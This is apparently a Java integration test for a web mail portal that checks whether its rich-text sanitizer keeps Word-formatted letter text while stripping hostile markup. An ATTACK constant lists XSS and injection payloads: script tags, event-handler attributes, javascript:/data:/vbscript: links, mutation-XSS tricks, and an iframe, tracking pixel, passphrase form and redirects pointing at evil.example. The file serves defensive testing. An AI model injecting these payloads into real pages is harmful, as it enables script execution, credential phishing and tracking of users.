package org.restante.it.input;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jsoup.select.Elements;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.restante.it.input.Client.Answer;
import org.restante.it.pages.ComposePage;
import org.restante.it.portal.Sample;
import org.restante.it.portal.TestPortal;
import org.restante.it.portal.Visitor;
import org.restante.launcher.Portal;

/** Rich text as programs and attackers write it: the words and the plain forms stay, nothing else. */
@ExtendWith(TestPortal.class)
class RichTextIT {

    private static final String WORD = """
            <html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15">
            <!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
            <style><!-- p.MsoNormal {mso-style-unhide:no; margin:0cm;} --></style></head><body lang=DE>
            <!--StartFragment--><p class=MsoNormal style='mso-margin-top-alt:auto'><b style='mso-bidi-font-weight:normal'>Sehr
            geehrte Frau&nbsp;Müller<o:p></o:p></b></p><p class=MsoNormal><span style='color:red;mso-fareast-language:EN'>Anbei</span>
            <i>zwei</i> Punkte:<o:p>&nbsp;</o:p></p>
            <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;
            </span></span><![endif]>Der erste<o:p></o:p></p>
            <p>Siehe <a href="https://kunde.example/a" style="x" onclick="evil()">hier</a><v:shape id="_x0000_i1025"></v:shape></p>
            <!--EndFragment--></body></html>
            """;

    private static final String ATTACK = """
            <p>Honest words.</p><script>alert(1)</script><style>body{display:none}</style><img src="https://evil.example/pixel.png">
            <img src="data:image/png;base64,AAAA" onerror="alert(2)"><iframe src="https://evil.example"></iframe>
            <p style="background:url(https://evil.example/x)" onmouseover="alert(3)" class="note" id="compose">Styled words.</p>
            <form action="https://evil.example"><input name="passphrase"><button>Send</button></form>
            <a href="javascript:alert(4)">script link</a> <a href=" jAvA\tscript:alert(5)">spaced link</a>
            <a href="data:text/html,<script>alert(6)</script>">data link</a> <a href="vbscript:x">vb link</a>
            <a href="https://kunde.example/\u202egpj.exe">turned link</a>
            <svg onload="alert(7)"><a xlink:href="javascript:alert(8)">svg</a></svg><math><mtext></p><mglyph><style><img src=x onerror=alert(9)>
            <video src="https://evil.example/v"></video><object data="x"></object><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
            <noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript><template><img src=x onerror=alert(11)></template>
            """;

    private final Portal portal;
    private final Visitor visitor;

    RichTextIT(Portal portal, Visitor visitor) {
        this.portal = portal;
        this.visitor = visitor;
    }

    @Test
    void shouldKeepTheLetterThatWordWrote() throws Exception {
        Elements letter = read(WORD);
        assertThat(letter.select("strong, b").text()).isEqualTo("Sehr geehrte Frau Müller");
        assertThat(letter.select("i, em").eachText()).containsExactly("zwei");
        assertThat(letter.select("a").attr("href")).isEqualTo("https://kunde.example/a");
        assertThat(letter.select("p").eachText()).hasSizeBetween(4, 5).anyMatch(text -> text.endsWith("Der erste"));
        assertThat(letter.html())
                .doesNotContainIgnoringCase("mso")
                .doesNotContain("<!--", "o:p", "style", "StartFragment");
        assertThat(letter.text()).doesNotContain("margin", "[if", "OfficeDocument");
    }

    @Soak
    @Test
    void shouldRunAndLoadNothingOfABody() throws Exception {
        UUID message = send(ATTACK);
        try (BrowserContext office = visitor.desk()) {
            Page alice = visitor.signIn(office, Sample.ALICE);
            List<String> run = watch(alice);
            alice.navigate("/message/read?id=" + message);
            assertThat(alice.getByText("Honest words.")).isVisible();
            assertThat(alice.getByText("Styled words.")).isVisible();
            assertThat(
                            alice.locator(
                                    "main img, main iframe, main form input[name=passphrase], main svg, main [style], main video"))
                    .hasCount(0);
            for (String text : new String[] {"script link", "spaced link", "data link", "vb link"}) {
                assertThat(alice.locator("main a").getByText(text)).hasCount(0);
                assertThat(alice.getByText(text)).isVisible();
            }
            assertThat(alice.locator("main a[href*='kunde.example']"))
                    .hasAttribute("rel", "noopener noreferrer nofollow");
            assertThat(run).isEmpty();
        }
    }

    @Test
    void shouldPasteIntoTheEditorWithoutRunningAnything() {
        try (BrowserContext office = visitor.desk()) {
            Page alice = visitor.signIn(office, Sample.ALICE);
            ComposePage compose = new ComposePage(alice).open();
            List<String> run = watch(alice);
            compose.body().focus();
            for (String html : List.of(ATTACK, WORD)) {
                alice.evaluate("""
                        html => {
                          const data = new DataTransfer();
                          data.setData('text/html', html);
                          data.setData('text/plain', 'plain');
                          document.querySelector('#body .ql-editor').dispatchEvent(
                            new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true}));
                        }
                        """, html);
            }
            assertThat(compose.body()).containsText("Honest words.");
            assertThat(compose.body()).containsText("Sehr geehrte Frau");
            assertThat(run).isEmpty();
            compose.to(Sample.CAROL).write("Pasted", "Fresh words.");
        }
    }

    @Soak
    @Test
    void shouldCarryAMegabyteOfRichText() throws Exception {
        StringBuilder html = new StringBuilder();
        for (int i = 0; html.length() < 1_000_000; i++) {
            html.append("<p><strong>Line ").append(i).append("</strong> with <em>words</em>.</p>");
        }
        Elements letter = read(html.append("<p>The end.</p>").toString());
        assertThat(letter.select("p")).hasSizeGreaterThan(15_000);
        assertThat(letter.text()).endsWith("The end.");
    }

    @Soak
    @ParameterizedTest
    @ValueSource(
            strings = {"<p>a</p>", "<div>", "<b><p>", "<!--", "<blockquote>", "<ol><li data-list=bullet>x", "<a><b><i>"
            })
    void shouldNotDwellOnMonotonousMarkup(String piece) throws Exception {
        Client alice = Client.signedIn(portal, Sample.ALICE);
        Compose compose = Compose.open(alice);
        String html = piece.repeat(800_000 / piece.length()) + "<p>x</p>";
        assertThat(compose.save("{\"body\":" + Compose.quoted(html) + "}").status())
                .isEqualTo(200);
        assertThat(Compose.open(alice, compose.draft()).page().status()).isEqualTo(200);
    }

    private UUID send(String html) throws Exception {
        Compose compose = Compose.open(Client.signedIn(portal, Sample.ALICE));
        return Compose.message(compose.send(Map.of("to", Sample.CAROL, "subject", "Rich", "body_input", html)));
    }

    private Elements read(String html) throws Exception {
        UUID message = send(html);
        Answer answer = Client.signedIn(portal, Sample.ALICE).get("/message/read?id=" + message);
        return answer.page().select(".letter");
    }

    private static List<String> watch(Page page) {
        List<String> run = new ArrayList<>();
        page.onDialog(dialog -> {
            run.add("dialog " + dialog.message());
            dialog.dismiss();
        });
        page.onRequest(request -> {
            if (!request.url().startsWith("https://localhost:")
                    && !request.url().startsWith("data:")) {
                run.add("request " + request.url());
            }
        });
        return run;
    }
}
